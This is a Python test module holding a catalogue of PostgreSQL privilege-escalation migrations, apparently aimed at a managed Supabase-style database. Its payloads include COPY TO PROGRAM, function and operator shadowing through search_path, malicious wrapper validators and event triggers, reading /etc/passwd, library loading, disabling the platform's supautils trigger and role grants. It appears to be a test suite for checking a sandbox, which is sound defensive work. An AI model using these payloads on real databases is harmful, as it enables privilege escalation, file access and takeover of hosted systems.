"""Migrations that try to become superuser: each lays a trap for something that runs with more rights than its own.

All of them end in `trap.spring()`, which writes files and makes superusers where it can; what it cannot do, it
swallows. So an attack that fails leaves no trace, and one that works leaves files in the canary folder or a superuser.
"""

from __future__ import annotations

from pathlib import Path


def spring(canary: Path) -> str:
    """The functions that every attack ends in. canary: a folder that everyone may write to."""
    attempts = (
        f"copy (select 1) to program 'touch {canary}/program'",
        f"copy (select 1) to '{canary}/copied'",
        f"select pg_catalog.lo_export(pg_catalog.lo_from_bytea(0, 'x'), '{canary}/exported')",
        "create role trapped superuser login",
        "alter role postgres superuser",
        "grant pg_execute_server_program to postgres",
    )
    ignored = "exception when others then null; end;"
    tries = "\n".join(f"begin execute $try${attempt}$try$; {ignored}" for attempt in attempts)
    return f"""
create schema trap;
grant usage on schema trap to public;
create function trap.spring() returns void language plpgsql as $$ begin {tries} end $$;
create function trap.calm(anyelement) returns boolean language plpgsql immutable as
$$ begin perform trap.spring(); return true; end $$;
create function trap.row() returns trigger language plpgsql as $$ begin perform trap.spring(); return new; end $$;
create domain trap.text as pg_catalog.text check (trap.calm(value));
create type trap.pair as (item trap.text);
"""


# What is called by its bare name in a script that a superuser runs: PostgreSQL prefers these to the general forms.
SHADOWS = """
create function {schema}.format(pg_catalog.text, pg_catalog.text) returns pg_catalog.text language plpgsql as
$$ begin perform trap.spring(); return pg_catalog.format($1, $2); end $$;
create function {schema}.format(pg_catalog.text, pg_catalog.text, pg_catalog.text) returns pg_catalog.text
language plpgsql as $$ begin perform trap.spring(); return pg_catalog.format($1, $2, $3); end $$;
create function {schema}.format(pg_catalog.text, name) returns pg_catalog.text language plpgsql as
$$ begin perform trap.spring(); return pg_catalog.format($1, $2); end $$;
create function {schema}.format(pg_catalog.text, regrole) returns pg_catalog.text language plpgsql as
$$ begin perform trap.spring(); return pg_catalog.format($1, $2); end $$;
create function {schema}.same(oid, regclass) returns boolean language plpgsql as
$$ begin perform trap.spring(); return $1 operator(pg_catalog.=) $2; end $$;
create operator {schema}.= (leftarg = oid, rightarg = regclass, function = {schema}.same);
create function {schema}.same(name, pg_catalog.text) returns boolean language plpgsql as
$$ begin perform trap.spring(); return $1 operator(pg_catalog.=) $2; end $$;
create function {schema}.same(pg_catalog.varchar, pg_catalog.varchar) returns boolean language plpgsql as
$$ begin perform trap.spring(); return $1::pg_catalog.text operator(pg_catalog.=) $2::pg_catalog.text; end $$;
create operator {schema}.= (leftarg = pg_catalog.varchar, rightarg = pg_catalog.varchar, function = {schema}.same);
create function {schema}.joined(name, pg_catalog.varchar) returns pg_catalog.text language plpgsql as
$$ begin perform trap.spring(); return ''; end $$;
create operator {schema}.|| (leftarg = name, rightarg = pg_catalog.varchar, function = {schema}.joined);
"""

ATTACKS = {
    "a validator of a wrapper": """
        create function trap.validate(pg_catalog.text[], oid) returns void language plpgsql as
        $$ begin perform trap.spring(); end $$;
        create foreign data wrapper trapped validator trap.validate""",
    "a validator given later": """
        create function trap.validate(pg_catalog.text[], oid) returns boolean language plpgsql as
        $$ begin perform trap.spring(); return true; end $$;
        create foreign data wrapper trapped;
        alter foreign data wrapper trapped validator trap.validate""",
    "a procedure as the validator": """
        create procedure trap.validate(pg_catalog.text[], oid) language plpgsql as
        $$ begin perform trap.spring(); end $$;
        create foreign data wrapper trapped validator trap.validate""",
    "a validator with the name of an allowed one": """
        create extension postgres_fdw schema extensions;
        create function trap.postgres_fdw_validator(pg_catalog.text[], oid) returns void language plpgsql as
        $$ begin perform trap.spring(); end $$;
        set search_path = trap, extensions;
        create foreign data wrapper trapped handler postgres_fdw_handler validator postgres_fdw_validator""",
    "a temporary table in the place of pg_authid": """
        create temp table pg_authid (rolname name, rolsuper boolean);
        create publication trapped for all tables;
        select trap.spring()""",
    "a temporary table in the place of pg_authid, with a wrapper": """
        create temp table pg_authid (rolname name, rolsuper boolean);
        create foreign data wrapper trapped;
        select trap.spring()""",
    "a temporary view in the place of a catalog": """
        create temp view pg_foreign_data_wrapper as
          select trap.calm(1)::pg_catalog.text::name as fdwname, 10::oid as fdwowner;
        grant all on pg_foreign_data_wrapper to public;
        create extension citext""",
    "a temporary type in the place of text": """
        create extension pg_cron;
        create extension pg_net;
        create domain pg_temp.text as pg_catalog.text check (trap.calm(value));
        create domain pg_temp.jsonb as pg_catalog.jsonb check (trap.calm(value));
        create domain pg_temp.regrole as pg_catalog.regrole check (trap.calm(value));
        create domain pg_temp.name as pg_catalog.name check (trap.calm(value));
        select cron.schedule('a', '* * * * *', 'select 1');
        select cron.schedule_in_database('b', '* * * * *', 'select 1', 'postgres');
        select cron.unschedule('a');
        select net.http_get('http://127.0.0.1:1', '{"a": "b"}');
        select net.http_post('http://127.0.0.1:1', '{"a": "b"}', '{"a": "b"}');
        select vault.create_secret('s', 'n');
        create extension citext;
        create publication trapped for all tables""",
    "a literal in a publication's condition": """
        create table trap.watched (item trap.pair);
        create publication trapped for table trap.watched where (item = '(x)'::trap.pair) /* for all tables */""",
    "a literal in a publication's condition, with a schema": """
        create table trap.watched (item trap.pair);
        create schema calm;
        create publication trapped for table trap.watched where (item = '(x)'::trap.pair), tables in schema calm""",
    "a literal in a publication's condition, inside a block": """
        create table trap.watched (item trap.pair);
        do $$ begin
          execute 'create publication trapped for table trap.watched
                     where (item = ''(x)''::trap.pair)'; -- for all tables
        end $$""",
    "a literal in a policy's condition": """
        create policy trapped on storage.objects using ('(x)'::trap.pair is not null)""",
    "a key that refers to a superuser's table, through a cast": """
        create type trap.key as (id uuid);
        create function trap.to_uuid(trap.key) returns uuid language plpgsql immutable as
        $$ begin perform trap.spring(); return ($1).id; end $$;
        create cast (trap.key as uuid) with function trap.to_uuid(trap.key) as implicit;
        create table trap.referring (secret trap.key references vault.secrets (id));
        insert into trap.referring select row(vault.create_secret('s', 'trapped'))::trap.key""",
    "a trigger on what an extension writes": """
        create extension pg_cron;
        create extension pg_net;
        do $$ declare found regclass; begin
          for found in select c.oid from pg_class c where relkind in ('r', 'p')
                         and relnamespace not in ('trap'::regnamespace, 'pg_catalog'::regnamespace) loop
            begin
              execute pg_catalog.format('create trigger trapped before insert or update on %s
                                           for each row execute function trap.row()', found);
            exception when others then null; end;
          end loop;
        end $$;
        select cron.schedule('a', '* * * * *', 'select 1');
        select net.http_get('http://127.0.0.1:1');
        select vault.create_secret('s', 'n')""",
    "an index, and its analysis by a superuser": """
        create table trap.indexed (item pg_catalog.text);
        create index on trap.indexed (trap.calm(item));
        create statistics trap.counted on trap.calm(item), item from trap.indexed;
        insert into trap.indexed values ('x');
        analyze trap.indexed""",
    "an extension in a schema with shadows": """
        create schema shadows;
        {shadows}
        set search_path = shadows, public, extensions;
        create extension http schema shadows;
        create extension pg_cron schema shadows;
        alter extension pg_cron update""",
    "extensions whose schema is there already": """
        create schema shadows; create schema pgmq; create schema cron; create schema net;
        {shadows}
        create extension pgmq""",
    "a library as an output plugin": """
        select pg_create_logical_replication_slot('trapped', '{canary}/library.so')""",
    "a role with the right to replicate": """
        create role replicator login replication""",
    "an event trigger": """
        create function trap.event() returns event_trigger language plpgsql as $$ begin perform trap.spring(); end $$;
        create event trigger trapped on ddl_command_start execute function trap.event()""",
    "the functions of the lending itself": """
        create or replace function extensions.supautils_begin() returns event_trigger language plpgsql as
        $$ begin perform trap.spring(); end $$;
        alter function extensions.supautils_end() rename to gone;
        alter event trigger supautils_end disable;
        drop event trigger supautils_end cascade;
        drop schema extensions cascade""",
    "an extension that swallows the lending": """
        create extension citext;
        alter extension citext add event trigger supautils_end;
        alter extension citext add function extensions.supautils_end();
        do $$ begin execute 'alter extension citext add event trigger supautils_end'; end $$;
        drop extension citext cascade;
        drop extension plpgsql cascade;
        create extension plpgsql;
        create publication trapped for all tables;
        create function trap.again() returns void language plpgsql as $$ begin create role trapped superuser; end $$;
        select trap.again()""",
    "what is a superuser's": """
        copy (select 1) to program 'touch {canary}/program';
        copy (select 1) to '{canary}/copied';
        select pg_read_file('/etc/passwd');
        select pg_ls_dir('/');
        select lo_import('/etc/passwd');
        create table trap.lines (line pg_catalog.text); copy trap.lines from '/etc/passwd';
        load '{canary}/library.so';
        alter system set archive_command = 'touch {canary}/archived';
        set session_preload_libraries = '{canary}/library.so';
        set dynamic_library_path = '{canary}';
        set local_preload_libraries = '../../../{canary}/library.so';
        create function trap.c() returns void language c as '{canary}/library.so';
        create function trap.i(pg_catalog.text, bigint, bigint, boolean) returns bytea language internal
          as 'pg_read_binary_file_off_len';
        create extension file_fdw; create extension adminpack; create extension plpython3u; create extension plperlu;
        create tablespace trapped location '{canary}';
        create role trapped superuser;
        alter role postgres superuser;
        alter role supabase_admin password 'x';
        grant supabase_admin to postgres;
        grant pg_execute_server_program to postgres;
        grant pg_write_server_files to postgres;
        grant pg_read_server_files to postgres;
        set role supabase_admin;
        set session authorization supabase_admin;
        alter function trap.spring() owner to supabase_admin;
        alter table vault.secrets owner to postgres;
        alter default privileges for role supabase_admin grant all on tables to postgres;
        reassign owned by supabase_admin to postgres;
        alter role all set search_path = trap;
        alter role supabase_admin set search_path = trap;
        insert into pg_authid (rolname, rolsuper) values ('trapped', true);
        update pg_authid set rolsuper = true;
        create trigger trapped before insert on pg_authid for each row execute function trap.row();
        create rule trapped as on select to pg_roles do instead select 1;
        select trap.spring()""",
}
